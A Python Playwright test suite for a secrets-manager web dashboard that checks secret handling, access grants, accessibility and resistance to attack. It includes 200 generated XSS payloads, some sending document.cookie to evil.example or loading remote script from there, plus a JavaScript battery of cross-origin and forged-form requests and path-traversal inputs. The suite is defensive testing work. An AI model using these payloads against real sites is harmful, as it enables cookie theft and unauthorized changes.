"""The dashboard in a real browser: its walk, values that only go in, hostile text, foreign pages, keys, looks."""

import itertools
import re
import time

import pytest
from axe_playwright_python.sync_playwright import Axe
from dashboard_page import FLAGS, Dashboard, chromium, foreign_site
from harness import running
from playwright.sync_api import expect, sync_playwright

pytestmark = pytest.mark.browser
VALUE = "cnry-Db71-dashboard-value"
OTHER = "cnry-Db72-another-value"


@pytest.fixture(scope="module")
def playwright():
    with sync_playwright() as started:
        yield started


@pytest.fixture(scope="module")
def browser(playwright):
    started = playwright.chromium.launch(executable_path=chromium(), args=FLAGS)
    yield started
    started.close()


@pytest.fixture
def dashboard(server, browser):
    context = browser.new_context()
    shown = Dashboard.open(server, context.new_page())
    yield shown
    shown.close()
    context.close()


@pytest.fixture
def secret(admin):
    """A secret of its own for each test."""
    name = f"held_{time.monotonic_ns()}"
    assert admin.put(f"/secrets/{name}", content=VALUE).status_code == 200
    yield name
    admin.delete(f"/secrets/{name}")


def test_the_whole_walk_leaves_no_value_and_no_token_behind(playwright, tmp_path):
    """Everything a team does, in a browser with a profile of its own, which is searched afterwards."""
    (tmp_path / "store").mkdir(mode=0o700)
    profile = tmp_path / "profile"
    with running(tmp_path / "store") as server:
        context = playwright.chromium.launch_persistent_context(profile, executable_path=chromium(), args=FLAGS)
        shown = Dashboard.open(server, context.pages[0])
        shown.sign_in()
        shown.create("pinetree", VALUE)
        shown.follow("All secrets")
        shown.see("Secrets")
        shown.press("New secret")
        shown.write("Name", "pinetree")
        expect(shown.page.get_by_text("pinetree is taken", exact=True)).to_be_visible()
        shown.write("Value", OTHER)
        shown.press("Create")
        shown.problem("pinetree is taken; open it to replace its value")
        shown.press("Cancel")
        shown.follow("pinetree")
        shown.see("pinetree")
        shown.press("Replace value")
        shown.write("Value", OTHER)
        shown.press("Replace")
        expect(shown.section("Versions").get_by_text("Version 2")).to_be_visible()
        after_values = len(shown.requests)
        shown.write("Tag", "team")
        shown.write("Tag value", "mail")
        shown.press("Add tag")
        shown.news("Tag team:mail added.")
        key = walk_application(shown)
        walk_grants(shown)
        walk_versions(shown, server)
        walk_audit(shown)
        shown.follow("Secrets")
        shown.follow("pinetree")
        shown.press("Delete secret")
        shown.write("Type pinetree to confirm", "pinetree")
        shown.press("Delete")
        shown.news("pinetree is deleted.")
        shown.see("Secrets")
        assert "0 of 0 secrets" in shown.held()
        token = shown.token()
        for word in (VALUE, OTHER, token, server.key_secret, key):
            assert word not in shown.held()
            assert word not in shown.remembered()
            for request in shown.requests[after_values:]:
                assert word not in request.url + (request.post_data or "")
        reads = [
            call for call in shown.calls() if re.fullmatch(r"GET /secrets/[^/]+|\w+ /secrets/resolve", " ".join(call))
        ]
        assert reads == []
        shown.close()
        context.close()
    searched = 0
    for path in profile.rglob("*"):
        if path.is_file() and not path.is_symlink():
            content = path.read_bytes()
            searched += len(content)
            for word in (VALUE, OTHER, token, server.key_secret, key):
                assert word.encode() not in content, path
                assert word.encode("utf-16-le") not in content, path
    assert searched > 100_000


def walk_application(shown):
    """Make an application with a key; its secret is shown once and can be copied."""
    shown.follow("Applications")
    shown.see("Applications")
    shown.write("Name of a new application", "mailer")
    shown.press("Create application")
    shown.see("mailer")
    shown.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    shown.press("New access key")
    box = shown.page.get_by_role("dialog")
    key, secret = box.locator("code").all_text_contents()
    shown.press("Copy secret")
    expect(box.get_by_text("The secret is copied.")).to_be_visible()
    other = shown.page.context.new_page()  # the dashboard itself may not read the clipboard
    other.goto(shown.server.url)
    assert other.evaluate("() => navigator.clipboard.readText()") == secret
    other.close()
    shown.page.keyboard.press("Escape")
    expect(box).to_be_visible()
    shown.press("I have stored it")
    expect(box).to_have_count(0)
    keys = shown.section("Access keys")
    expect(keys.get_by_text(key, exact=True)).to_be_visible()
    assert secret not in shown.held()
    shown.press("Turn off")
    shown.news(f"Key {key} is turned off.")
    shown.press("Turn on")
    shown.news(f"Key {key} is turned on.")
    shown.write("Role", "WORKER")
    shown.press("Give role")
    shown.news("Role WORKER is given.")
    shown.server.client(key, secret)
    return secret


def walk_grants(shown):
    """Grant, ask why, revoke."""
    shown.follow("Secrets")
    shown.write("Search names and tags", "team:mail")
    shown.follow("pinetree")
    shown.see("pinetree")
    section, why = shown.section("Who is granted access"), shown.section("Who may, and why?")
    section.get_by_label("Name or id").fill("mailer")
    section.get_by_role("button", name="Grant", exact=True).click()
    row = section.get_by_role("listitem").filter(has_text="application mailer (")
    expect(row).to_contain_text("READ")
    why.get_by_label("Name or id").fill("mailer")
    why.get_by_role("button", name="Ask").click()
    expect(why.get_by_role("listitem")).to_have_text(re.compile(r"app:\S+ may READ pinetree: "))
    why.get_by_label("Name or id").fill("")
    why.get_by_role("button", name="Ask").click()
    expect(why.get_by_role("listitem")).to_have_count(2)
    expect(why.get_by_text("it has the role ADMIN")).to_be_visible()
    row.get_by_role("button", name=re.compile("Revoke READ from application mailer")).click()
    expect(row).to_have_count(0)
    why.get_by_label("Name or id").fill("mailer")
    why.get_by_role("button", name="Ask").click()
    expect(why.get_by_role("listitem")).to_have_text(re.compile(r"app:\S+ may not READ pinetree: it has no grants"))


def walk_versions(shown, server):
    """Restore the first value as the third version."""
    shown.press("Restore version 1")
    shown.press("Restore")
    shown.news("Version 1 of pinetree is restored.")
    expect(shown.section("Versions").get_by_text("Version 3")).to_be_visible()
    assert server.client().get("/secrets/pinetree").text == VALUE


def walk_audit(shown):
    """Turn the pages of the trail, and filter it."""
    admin = shown.server.client()
    for _ in range(70):
        admin.get("/secrets/pinetree")
    shown.follow("Audit")
    shown.see("Audit")
    numbers = lambda: [int(text.split(",")[0]) for text in shown.page.locator("li .hint").all_text_contents()]  # noqa: E731
    first = numbers()
    assert len(first) == 50
    shown.press("Older")
    expect(shown.page.get_by_role("button", name="Newer")).to_be_visible()
    assert numbers()[0] == first[-1] - 1
    shown.press("Newer")
    expect(shown.page.get_by_role("button", name="Newer")).to_have_count(0)
    assert numbers() == first
    shown.write("Action", "grant.*")
    shown.press("Filter")
    expect(shown.page.locator("li .name")).to_have_text([re.compile("grant.remove"), re.compile("grant.add")])


@pytest.mark.parametrize("options", [(), ("--verbatim",)], ids=["decoded", "verbatim"])
def test_values_arrive_exactly_as_they_were_typed(browser, tmp_path, options):
    tmp_path.chmod(0o700)
    values = [
        "plain",
        '"quoted"',
        '"',
        '""',
        '"a\\nb"',
        "0042",
        "null",
        " spaces ",
        "two\nlines\n",
        "ünï🌲",
        "\\",
        "{}",
    ]
    with running(tmp_path, *options) as server, browser.new_context() as context:
        shown, admin = Dashboard.open(server, context.new_page()).sign_in(), server.client()
        for number, value in enumerate(values):
            shown.create(f"exact_{number}", value)
            assert admin.get(f"/secrets/exact_{number}").text == value
            shown.follow("All secrets")
            shown.see("Secrets")
        shown.close()


def test_a_value_that_was_refused_is_gone_as_well(server, admin, dashboard):
    app, _ = server.application(admin)
    key = admin.post(f"/applications/{app}/accessKeys").json()
    dashboard.sign_in(key["id"], key["secret"])
    expect(dashboard.page.get_by_role("link", name="Audit")).to_have_count(0)
    dashboard.press("New secret")
    dashboard.write("Name", "refused")
    expect(dashboard.page.get_by_text("no permission for this")).to_be_visible()
    dashboard.press("Cancel")
    admin.post(f"/applications/{app}/roles/METADATA_MANAGER")
    dashboard.press("New secret")
    dashboard.write("Name", "refused")
    expect(dashboard.page.get_by_text("refused is free")).to_be_visible()
    dashboard.write("Value", VALUE)

    def overtake(route):
        if route.request.method == "PUT":
            admin.delete(f"/applications/{app}/roles/METADATA_MANAGER")
        route.continue_()

    dashboard.page.route("**/secrets/refused", overtake)
    dashboard.press("Create")
    dashboard.problem("no permission for this")
    assert VALUE not in dashboard.held()
    dashboard.page.get_by_label("Value", exact=True).focus()
    dashboard.page.keyboard.press("Control+z")
    assert VALUE not in dashboard.held()
    assert admin.get("/secrets/refused/exists").json() is False


def test_who_is_signed_out_sees_and_can_do_nothing_more(server, admin, dashboard, secret):
    dashboard.sign_in()
    expect(dashboard.page.get_by_role("link", name=secret)).to_be_visible()
    dashboard.press("Sign out")
    dashboard.see("Sign in")
    assert secret not in dashboard.held()
    dashboard.go(f"#secrets/{secret}")
    dashboard.see("Sign in")
    dashboard.write("Key id", server.key_id)
    dashboard.write("Key secret", server.key_secret)
    dashboard.press("Sign in")
    dashboard.see(secret)
    dashboard.page.reload()
    dashboard.see("Sign in")
    assert secret not in dashboard.page.locator("body").inner_text()


def test_a_token_that_ends_leads_back_to_signing_in(server, admin, dashboard, secret):
    app, _ = server.application(admin)
    key = admin.post(f"/applications/{app}/accessKeys").json()
    dashboard.sign_in(key["id"], key["secret"])
    dashboard.press("New secret")
    admin.delete(f"/applications/{app}/accessKeys/{key['id']}")
    dashboard.write("Name", "ended")
    dashboard.news("The server takes this token no more. Sign in again.")
    dashboard.see("Sign in")
    dashboard.write("Key id", key["id"])
    dashboard.write("Key secret", key["secret"])
    dashboard.press("Sign in")
    dashboard.problem("the token is missing or not valid")
    assert key["secret"] not in dashboard.held()


def test_only_the_last_question_about_a_name_counts(admin, dashboard, secret):
    """While one types, the server is asked after a pause, and a late answer to an early question is dropped."""
    dashboard.sign_in()
    dashboard.press("New secret")
    before = len(dashboard.calls())
    name = dashboard.page.get_by_label("Name", exact=True)
    slow = re.compile(r"/exists$")
    held = []
    dashboard.page.route(slow, lambda route: held.append(route) if not held else route.continue_())
    name.press_sequentially(secret, delay=10)
    dashboard.page.wait_for_timeout(400)
    name.press_sequentially("_x", delay=10)
    expect(dashboard.page.get_by_text(f"{secret}_x is free")).to_be_visible()
    held[0].continue_()
    dashboard.page.wait_for_timeout(300)
    expect(dashboard.page.get_by_text(f"{secret}_x is free")).to_be_visible()
    assert len(dashboard.calls()) - before == 2
    name.fill("not a name")
    expect(dashboard.page.get_by_text("Only letters, digits, _ and -")).to_be_visible()


SHAPES = [
    "<script>{}</script>", "<img src=x onerror={}>", '"><svg onload={}>', "'><body onload={}>", "<iframe src=javascript:{}>",
    "<a href=javascript:{}>x</a>", "</title><script>{}</script>", "</textarea><script>{}</script>", "javascript:{}",
    "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<video><source onerror={}></video>", "${{{}}}",
    "{{{{{}}}}}", "`;{};`", "';{};'", "<math><mi xlink:href=data:x,{}>", "<style>@import '{}'</style>", "<base href='{}'>",
    "<meta http-equiv=refresh content='0;{}'>", "<object data='javascript:{}'>", "<template><script>{}</script></template>",
    "<!--><img src=x onerror={}>-->", "\u202e<b onmouseover={}>", "data:text/html,<script>{}</script>",
]  # fmt: skip
CALLS = [
    "window.hit=1", "alert(1)", "top.hit=1", "import('//evil.example/x.js')", "fetch('//evil.example/'+document.cookie)",
    "document.title='hit'", "location='//evil.example'", "navigator.sendBeacon('//evil.example',1)",
]  # fmt: skip
PAYLOADS = [shape.format(call) for shape, call in itertools.product(SHAPES, CALLS)]


def grown(page):
    """Show all rows of long lists."""
    more = page.get_by_role("button", name="Show more")
    while more.count() and more.first.is_visible():
        more.first.click()
    return page.evaluate("() => document.body.innerText")


def flat(text):
    return re.sub(r"\s+", " ", text)


def test_two_hundred_hostile_texts_are_shown_as_text(tmp_path, browser):
    """In tags, names and tags of applications, users, roles, subjects, actions on them in the trail, and addresses."""
    assert len(set(PAYLOADS)) == 200
    tmp_path.chmod(0o700)
    with running(tmp_path) as server, browser.new_context() as context:
        admin = server.client()
        admin.put("/secrets/held", content=VALUE)
        tags = [{"key": payload, "value": payload} for payload in PAYLOADS]
        app = admin.post("/applications", json={"name": "tagged"}).json()["id"]
        for path in ("/secrets/held", f"/applications/{app}"):
            assert admin.put(f"{path}/tags", json=tags).status_code == 200
        kinds = itertools.cycle(["USER", "GROUP", "ROLE"])
        for payload in PAYLOADS:
            assert admin.post("/applications", json={"name": payload}).status_code == 200
            assert admin.post("/roles", json={"name": payload, "permissions": []}).status_code == 200
            for target in ({"type": "SECRET_NAME", "id": "held"}, {"type": "TAG", "id": f"{payload}:{payload}"}):
                body = {"subject": {"type": next(kinds), "id": payload}, "target": target, "access": ["READ"]}
                assert admin.post("/auth/authorization", json=body).status_code == 200
        shown = Dashboard.open(server, context.new_page()).sign_in()
        views = {
            "#secrets": ("Secrets", ".chip", 200),
            "#secrets/held": ("held", "section button:text-is('Show more'):visible", 2),
            "#applications": ("Applications", "li", 100),
            f"#applications/{app}": ("tagged", "li.chip", 200),
        }
        for view, (heading, rows, count) in views.items():
            shown.go(view)
            shown.see(heading)
            expect(shown.page.locator(rows)).to_have_count(count, timeout=20_000)
            text = flat(grown(shown.page))
            assert [payload for payload in PAYLOADS if flat(payload) not in text] == []
        shown.go("#audit")
        shown.see("Audit")
        shown.press("Older")
        shown.go("#secrets")
        for payload in PAYLOADS[:40]:
            shown.page.get_by_role("button", name=f"Search for tag {payload}:{payload}", exact=True).click()
            assert shown.page.get_by_label("Search names and tags").input_value() == f"{payload}:{payload}"
        for payload in PAYLOADS[::5]:
            shown.go(f"#secrets/{payload}")
            shown.go(f"#applications/{payload}")
        shown.page.wait_for_load_state("networkidle")
        assert shown.page.evaluate("() => window.hit") is None
        assert "hit" not in shown.page.title()
        foreign = ["script", "iframe", "img", "svg", "object", "style", "base", "video", "math", "details", "template"]
        assert shown.page.evaluate("(tags) => document.body.querySelectorAll(tags).length", ", ".join(foreign)) == 0
        shown.close()


def test_hostile_text_that_is_typed_in_is_shown_as_text(admin, dashboard, secret):
    dashboard.sign_in()
    for payload in PAYLOADS[::8]:
        dashboard.go("#applications")
        dashboard.see("Applications")
        dashboard.write("Name of a new application", payload)
        dashboard.press("Create application")
        dashboard.see(flat(payload))
        dashboard.write("Tag", payload)
        dashboard.press("Add tag")
        dashboard.news(f"Tag {payload} added.")
        dashboard.press("Delete application")
        dashboard.write(f"Type {payload} to confirm", payload)
        dashboard.press("Delete")
        dashboard.news(f"Application {payload} is deleted.")
    assert dashboard.page.evaluate("() => window.hit") is None


@pytest.mark.parametrize("name", ["..", ".", "../token", "%2e%2e", "../../openapi.json", "a/b", "%", "held?x=1", "#"])
def test_an_address_leads_to_no_other_call(dashboard, name):
    dashboard.sign_in()
    before = len(dashboard.calls())
    for view in ("#secrets/", "#applications/"):
        dashboard.go(view + name)
        dashboard.page.wait_for_load_state("networkidle")
    asked = {path for _, path in dashboard.calls()[before:]}
    assert not [path for path in asked if not re.fullmatch(r"/secrets-v2|/applications|/applications/[\w%.]+", path)]


ATTEMPTS = """async ({api, token}) => {
    const tried = [];
    const attempt = async (name, act) => {
        let read;
        try { read = await act(); } catch { read = null; }
        tried.push([name, read ?? null]);
    };
    const asked = (path, options) => async () => (await fetch(api + path, options)).text();
    const grant = JSON.stringify({subject: {type: "USER", id: "app:orkes-workers"},
        target: {type: "SECRET_NAME", id: "target"}, access: ["READ"]});
    for (const mode of ["cors", "no-cors", "same-origin"]) {
        for (const headers of [{}, {"X-Authorization": token}, {"Content-Type": "text/plain"}]) {
            await attempt(`read ${mode}`, asked("/secrets/target", {mode, headers}));
            await attempt(`put ${mode}`, asked("/secrets/target", {mode, headers, method: "PUT", body: "changed"}));
            await attempt(`delete ${mode}`, asked("/secrets/target", {mode, headers, method: "DELETE"}));
            await attempt(`list ${mode}`, asked("/secrets", {mode, headers, method: "POST"}));
            await attempt(`grant ${mode}`, asked("/auth/authorization", {mode, headers, method: "POST", body: grant}));
        }
        await attempt(`credentials ${mode}`, asked("/secrets", {mode, credentials: "include", method: "POST"}));
        await attempt(`page ${mode}`, asked("/../dashboard/", {mode}));
    }
    await attempt("beacon", () => { navigator.sendBeacon(api + "/applications", grant); });
    await attempt("XMLHttpRequest", () => new Promise((done) => {
        const request = new XMLHttpRequest();
        request.onloadend = () => done(request.responseText || null);
        request.open("DELETE", api + "/secrets/target");
        request.setRequestHeader("X-Authorization", token);
        request.send();
    }));
    for (const type of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"]) {
        for (const path of ["/applications", "/auth/authorization", "/secrets/target"]) {
            await attempt(`form ${type} ${path}`, () => new Promise((done) => {
                const frame = document.createElement("iframe");
                frame.name = `frame-${tried.length}`;
                document.body.append(frame);
                const form = document.createElement("form");
                Object.assign(form, {method: "post", enctype: type, action: api + path, target: frame.name});
                const field = document.createElement("input");
                Object.assign(field, {name: '{"name": "forged", "x": "', value: '"}'});
                form.append(field);
                document.body.append(form);
                frame.onload = () => setTimeout(() => {
                    let text = null;
                    try { text = frame.contentDocument.body.innerText || null; } catch {}
                    done(text);
                }, 50);
                setTimeout(done, 1000, null);
                form.submit();
            }));
        }
    }
    for (const [tag, name, path] of [["script", "src", "/../dashboard/app.js"], ["img", "src", "/../dashboard/icon.svg"],
        ["script", "src", "/secrets/target"], ["link", "href", "/../dashboard/style.css"], ["iframe", "src", "/../dashboard/"],
        ["embed", "src", "/../dashboard/"], ["object", "data", "/../dashboard/"]]) {
        await attempt(`${tag} ${path}`, () => new Promise((done) => {
            const element = document.createElement(tag);
            if (tag === "link") element.rel = "stylesheet";
            if (tag === "script") element.type = "module";
            element[name] = api + path;
            element.onload = () => {
                let inside = tag === "iframe" || tag === "object" || tag === "embed" ? null : "loaded";
                try { inside ??= element.contentDocument.body.innerText || null; } catch {}
                done(inside);
            };
            element.onerror = () => done(null);
            setTimeout(done, 1000, null);
            document.body.append(element);
        }));
    }
    return tried;
}"""


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_foreign_page_changes_nothing_and_reads_nothing(server, admin, browser, host):
    """Not even with a token, which it cannot have; while the dashboard is open beside it."""
    admin.put("/secrets/target", content=VALUE)
    state = lambda: [  # noqa: E731
        admin.get("/secrets-v2").json(),
        admin.get("/applications").json(),
        admin.get("/auth/authorization/SECRET_NAME/target").json(),
        admin.get("/secrets/target").text,
    ]
    before = state()
    with foreign_site() as (port, pages), browser.new_context() as context:
        pages["/"] = "<!doctype html><title>evil</title><body></body>"
        shown = Dashboard.open(server, context.new_page()).sign_in()
        evil = context.new_page()
        evil.goto(f"http://{host}:{port}/")
        tried = evil.evaluate(ATTEMPTS, {"api": server.url, "token": shown.token()})
        assert len(tried) >= 60
        opaque = [name for name, read in tried if read == ""]  # a no-cors answer that nobody can look into
        assert all("no-cors" in name for name in opaque)
        assert [(name, read) for name, read in tried if read] == []
        opened = evil.evaluate(
            """(address) => new Promise((done) => {
                const other = window.open(address);
                setTimeout(() => { try { done(other?.document?.body?.innerText ?? null); } catch { done(null); } }, 700);
            })""",
            server.url.replace("/api", "/dashboard/"),
        )
        assert opened is None
        shown.close()
    assert state() == before


def test_everything_can_be_done_by_keyboard(admin, dashboard):
    """Sign in, create, ask for access, delete: with Tab, Enter and Space only; what has the focus can be seen."""
    page, keyboard = dashboard.page, dashboard.page.keyboard
    label = """() => { const at = document.activeElement;
        return at.getAttribute("aria-label") ?? at.labels?.[0]?.innerText ?? at.innerText ?? ""; }"""
    outline = """() => { const style = getComputedStyle(document.activeElement);
        return [style.outlineStyle, parseFloat(style.outlineWidth)]; }"""

    def reach(name, key="Tab"):
        for _ in range(60):
            keyboard.press(key)
            if page.evaluate(label).strip() == name:
                style, width = page.evaluate(outline)
                assert style == "solid" and width >= 2, name  # noqa: PT018 - one question
                return
        raise AssertionError(f"Tab does not lead to {name}")

    expect(page.get_by_label("Key id")).to_be_focused()
    keyboard.type(dashboard.server.key_id)
    reach("Key secret")
    keyboard.type(dashboard.server.key_secret)
    keyboard.press("Enter")
    dashboard.see("Secrets")
    reach("New secret")
    keyboard.press("Enter")
    expect(page.get_by_label("Name", exact=True)).to_be_focused()
    keyboard.type("by_keyboard")
    expect(page.get_by_text("by_keyboard is free")).to_be_visible()
    reach("Value")
    keyboard.type(VALUE)
    reach("Show what is typed")
    keyboard.press("Space")
    assert page.get_by_label("Value", exact=True).get_attribute("class") == ""
    reach("Create")
    keyboard.press("Enter")
    dashboard.see("by_keyboard")
    expect(page.get_by_role("heading", level=1)).to_be_focused()
    reach("Tag")
    keyboard.type("made")
    reach("Add tag")
    keyboard.press("Enter")
    dashboard.news("Tag made added.")
    expect(page.get_by_role("heading", name="Tags")).to_be_focused()
    reach("Remove tag made")
    keyboard.press("Space")
    dashboard.news("Tag made removed.")
    expect(page.get_by_role("heading", name="Who is granted access")).to_be_visible()
    reach("Name or id")
    keyboard.type("orkes-workers")
    reach("UPDATE")
    keyboard.press("Space")
    reach("Grant")
    keyboard.press("Enter")
    dashboard.news("READ, UPDATE is granted to app orkes-workers.")
    reach("Revoke UPDATE from application orkes-workers")
    keyboard.press("Enter")
    dashboard.news("UPDATE is revoked from application orkes-workers.")
    reach("Delete secret", "Shift+Tab")
    keyboard.press("Enter")
    keyboard.press("Escape")
    expect(page.get_by_role("dialog")).to_have_count(0)
    expect(page.get_by_role("button", name="Delete secret")).to_be_focused()
    keyboard.press("Enter")
    keyboard.type("by_keyboar")
    keyboard.press("Enter")
    expect(page.get_by_role("dialog")).to_be_visible()
    keyboard.type("d")
    keyboard.press("Enter")
    dashboard.news("by_keyboard is deleted.")


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [360, 1280])
def test_every_view_is_accessible_and_fits(server, admin, browser, tmp_path, scheme, width):
    """No finding of axe, contrast included, and no sideways scrolling. Pictures are left in the test's directory."""
    admin.put("/secrets/usps_username", content=VALUE)
    admin.put("/secrets/" + "long_name_" * 25, content=VALUE)
    admin.put("/secrets/usps_username", content=OTHER)
    admin.put("/secrets/usps_username/tags", json=[{"key": "team", "value": "mail"}, {"key": "x" * 200}])
    for subject in ("app:orkes-workers", "somebody-with-a-name-as-long-as-this@department.example"):
        body = {"subject": {"type": "USER", "id": subject}, "target": {"type": "SECRET", "id": "usps_username"}}
        admin.post("/auth/authorization", json=body | {"access": ["READ", "UPDATE", "DELETE"]})
    admin.get("/secrets/absent")
    context = browser.new_context(color_scheme=scheme, viewport={"width": width, "height": 740})
    shown = Dashboard.open(server, context.new_page())
    checked = []

    def look(name):
        found = Axe().run(shown.page)
        assert found.violations_count == 0, found.generate_report()
        overflow = shown.page.evaluate("() => document.documentElement.scrollWidth - innerWidth")
        assert overflow <= 0, name
        shown.page.screenshot(path=tmp_path / f"{name}-{width}-{scheme}.png", full_page=True)
        checked.append(name)

    look("sign-in")
    shown.sign_in()
    look("secrets")
    shown.press("New secret")
    shown.write("Name", "usps_username")
    expect(shown.page.get_by_text("usps_username is taken")).to_be_visible()
    shown.write("Value", VALUE)
    shown.press("Create")
    shown.problem("usps_username is taken; open it to replace its value")
    look("create")
    shown.press("Cancel")
    shown.go("#secrets/usps_username")
    why = shown.section("Who may, and why?")
    why.get_by_role("button", name="Ask").click()
    expect(why.get_by_text("it has the role ADMIN")).to_be_visible()
    look("secret")
    shown.press("Delete secret")
    look("delete")
    shown.press("Cancel")
    shown.follow("Applications")
    shown.see("Applications")
    look("applications")
    shown.go("#applications/orkes-workers")
    shown.see("orkes-workers")
    shown.press("New access key")
    expect(shown.page.get_by_role("dialog")).to_be_visible()
    look("key")
    shown.press("I have stored it")
    look("application")
    shown.follow("Audit")
    shown.see("Audit")
    look("audit")
    assert len(checked) == 9
    context.close()
